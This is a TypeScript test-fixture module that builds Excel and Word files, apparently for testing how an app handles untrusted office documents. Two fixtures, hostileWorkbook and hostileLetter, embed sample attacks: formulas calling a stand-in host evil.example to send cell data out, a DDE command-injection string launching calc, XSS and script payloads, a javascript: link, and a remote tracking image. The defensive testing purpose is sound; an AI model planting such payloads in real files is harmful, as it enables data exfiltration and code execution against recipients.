import { readFileSync } from 'node:fs'
import { zipOf } from './hostile.ts'

export const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
export const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
export const XLS = 'application/vnd.ms-excel'

/** A file that somebody else made: test/office/README.md. */
export const officeFile = (name: string): Buffer => readFileSync(new URL(`./office/${name}`, import.meta.url))

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const rels = (all: readonly string[]) =>
  Buffer.from(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`,
  )
const rel = (id: string, type: string, target: string, more = '') =>
  `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}" ${more}/>`
const types = (part: string, of: string) =>
  Buffer.from(
    `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="${part}" ContentType="application/vnd.openxmlformats-officedocument.${of}.main+xml"/></Types>`,
  )

/** A workbook of sheets, each its rows as XML; one whose name ends in '?' is hidden. */
export const workbookOf = (sheets: Readonly<Record<string, string>>): Buffer => {
  const names = Object.keys(sheets)
  const listed = names.map(
    (name, i) =>
      `<sheet name="${name.replace('?', '')}" sheetId="${i + 1}" ${name.endsWith('?') ? 'state="hidden"' : ''} r:id="r${i + 1}"/>`,
  )
  return zipOf({
    '[Content_Types].xml': types('/xl/workbook.xml', 'spreadsheetml.sheet'),
    '_rels/.rels': rels([rel('r1', 'officeDocument', 'xl/workbook.xml')]),
    'xl/workbook.xml': Buffer.from(`<workbook xmlns:r="${REL}"><sheets>${listed.join('')}</sheets></workbook>`),
    'xl/_rels/workbook.xml.rels': rels(
      names.map((_, i) => rel(`r${i + 1}`, 'worksheet', `worksheets/sheet${i + 1}.xml`)),
    ),
    ...Object.fromEntries(
      names.map((name, i) => [
        `xl/worksheets/sheet${i + 1}.xml`,
        Buffer.from(`<worksheet>${sheets[name]}</worksheet>`),
      ]),
    ),
  })
}

const text = (ref: string, says: string) => `<c r="${ref}" t="str"><v>${says}</v></c>`

/** A workbook that wants to call home: formulas with links, text that begins as a formula, and a hidden sheet. */
export const hostileWorkbook = (): Buffer =>
  workbookOf({
    Rents: `<sheetViews><sheetView><pane ySplit="1" topLeftCell="A2" state="frozen"/></sheetView></sheetViews>
      <sheetData><row r="1">${text('A1', 'Unit')}${text('B1', 'Rent')}${text('C1', 'Note')}</row>
      <row r="2">${text('A2', '1A')}<c r="B2"><f>SUM(1,2)</f><v>1200.5</v></c>
        <c r="C2" t="str"><f>HYPERLINK("http://evil.example/?"&amp;A2,"Press me")</f><v>Press me</v></c></row>
      <row r="4" hidden="1">${text('A4', '=cmd|&apos;/c calc&apos;!A1')}${text('B4', '&lt;img src=x onerror=alert(1)&gt;')}</row>
      <row r="5"><c r="A5"><f>WEBSERVICE("http://evil.example")</f></c></row></sheetData>
      <mergeCells><mergeCell ref="A2:A3"/></mergeCells>`,
    'Reserves?': `<sheetData><row r="1">${text('A1', 'Known to staff alone')}</row></sheetData>`,
  })

/** A sheet of so many rows of twelve columns. */
export const tallWorkbook = (rows: number): Buffer => {
  const all = Array.from({ length: rows }, (_, i) => {
    const at = i + 1
    const numbers = 'BCDEFGHIJKL'
    const cells = [...numbers].map((column, n) => `<c r="${column}${at}"><v>${(at * 13 + n * 7) % 9000}</v></c>`)
    return `<row r="${at}">${text(`A${at}`, `Unit ${at}`)}${cells.join('')}</row>`
  })
  return workbookOf({ 'Rent roll': `<sheetData>${all.join('')}</sheetData>` })
}

const paragraph = (runs: string, style = '') =>
  `<w:p>${style === '' ? '' : `<w:pPr><w:pStyle w:val="${style}"/></w:pPr>`}${runs}</w:p>`
const run = (says: string) => `<w:r><w:t>${says}</w:t></w:r>`

/** A Word document of paragraphs, with the targets of its links and pictures by id. */
export const letterOf = (
  body: string,
  targets: Readonly<Record<string, [type: string, target: string]>> = {},
): Buffer =>
  zipOf({
    '[Content_Types].xml': types('/word/document.xml', 'wordprocessingml.document'),
    '_rels/.rels': rels([rel('r1', 'officeDocument', 'word/document.xml')]),
    'word/_rels/document.xml.rels': rels(
      Object.entries(targets).map(([id, [type, target]]) => rel(id, type, target, 'TargetMode="External"')),
    ),
    'word/document.xml': Buffer.from(
      `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>${body}</w:body></w:document>`,
    ),
  })

/** A Word document that wants to run and to call home. */
export const hostileLetter = (): Buffer =>
  letterOf(
    [
      paragraph(run('Lease summary')),
      paragraph(`<w:hyperlink r:id="bad">${run('Sign in here')}</w:hyperlink>`),
      paragraph(`<w:hyperlink r:id="good">${run('Our site')}</w:hyperlink>`),
      paragraph(run('&lt;script&gt;alert(1)&lt;/script&gt;')),
      paragraph(
        '<w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="away"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>',
      ),
    ].join(''),
    {
      bad: ['hyperlink', 'javascript:alert(1)'],
      good: ['hyperlink', 'https://example.com/'],
      away: ['image', 'http://evil.example/seen.png'],
    },
  )

/** A Word document of so many pages, of forty lines each. */
export const longLetter = (pages: number): Buffer =>
  letterOf(
    Array.from({ length: pages * 40 }, (_, i) =>
      paragraph(run(`${i + 1}. The tenant pays the rent of unit ${i % 80} on the first day of each month.`)),
    ).join(''),
  )
